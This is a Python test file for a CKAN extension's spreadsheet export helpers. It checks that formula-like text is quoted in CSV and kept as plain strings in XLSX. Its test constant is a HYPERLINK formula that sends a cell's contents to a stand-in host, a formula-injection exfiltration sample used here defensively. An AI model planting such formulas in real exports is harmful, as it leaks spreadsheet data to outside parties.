"""Spreadsheet cells keep text as text (pure: no CKAN)."""
from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ckanext.opdc_kpi.scoring.cells import csv_cell, csv_read, csv_row, xlsx_append, xlsx_value

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+66 2 123 4567", "-5", "@SUM(A1)", "\tx", "\rx"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "ชุดข้อมูล", "5", "", "a=b", -5, 3.5, 0, None, True])
def test_other_text_and_numbers_are_unchanged(value):
    assert csv_cell(value) == value


def test_a_row_is_made_safe_column_by_column():
    assert csv_row({"title": FORMULA, "score": -1.5, "extra": "=x"}, ["title", "score"]) == {
        "title": "'" + FORMULA, "score": -1.5}


@settings(max_examples=300, derandomize=True)
@given(st.text())
def test_csv_round_trip_gives_back_every_text(text):
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(text)])
    (cell,) = next(csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True))
    assert csv_read(cell) == text


def test_quoted_text_reads_back_exactly():
    for text in ("'=x", "''=x", "'plain", "'", "=", "'-"):
        assert csv_read(csv_cell(text)) == text
    assert csv_read("'plain") == "'plain"  # a quote nobody added stays


def test_xlsx_text_is_a_string_cell_never_a_formula():
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    xlsx_append(book.active, [FORMULA, "+66 1", "-5", -5, 1.5, None, "bad\x00char"])
    data = io.BytesIO()
    book.save(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data.getvalue())).active
    cells = list(sheet.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells[:5]] == [
        (FORMULA, "s"), ("+66 1", "s"), ("-5", "s"), (-5, "n"), (1.5, "n")]
    assert cells[6].value == "badchar"
    assert xlsx_value({"a": 1}) == "{'a': 1}"


@pytest.mark.parametrize("tail", ["=1+1", "plain", ""])
def test_thousands_of_leading_quotes_need_no_recursion(tail):
    text = "'" * 100_000 + tail
    assert csv_read(csv_cell(text)) == text
    assert csv_cell(text) == ("'" + text if tail.startswith("=") else text)


def _cpu_seconds_to_append(openpyxl, rows: int, budget: float = float("inf")) -> float:
    """Processor time to append ``rows`` export-like rows (30 columns, a
    formula-like text among them) to a new sheet; stops early, returning
    infinity, once ``budget`` is spent."""
    import gc
    import time

    sheet = openpyxl.Workbook().active
    row = ["title", FORMULA, 1.5, None, -5] + ["value"] * 25
    gc.disable()
    try:
        start = time.process_time()
        for _ in range(rows):
            xlsx_append(sheet, row)
            if time.process_time() - start > budget:
                return float("inf")
        return time.process_time() - start
    finally:
        gc.enable()


def test_xlsx_append_costs_the_same_per_row_whatever_the_sheet_holds():
    """Four times the rows cost about four times as much (< 8x), not
    sixteen: every export (the KPI pages', the Template 2/3 export, the
    command's and the remote tool's) appends row by row. A ratio, not a
    time: the best of three small runs against up to three large ones."""
    openpyxl = pytest.importorskip("openpyxl")
    small = min(_cpu_seconds_to_append(openpyxl, 1000) for _ in range(3))
    for _ in range(3):
        large = _cpu_seconds_to_append(openpyxl, 4000, budget=8 * small)
        if large <= 8 * small:
            break
    assert large <= 8 * small, (
        f"4,000 rows cost more than 8x 1,000 rows ({small:.3f} s of processor time)")
    # and the rows written so are still text, never formulas
    sheet = openpyxl.Workbook().active
    for _ in range(3):
        xlsx_append(sheet, [FORMULA, 1])
    assert [(c.value, c.data_type) for c in sheet["A"]] == [(FORMULA, "s")] * 3
    assert [c.row for c in sheet["B"]] == [1, 2, 3]
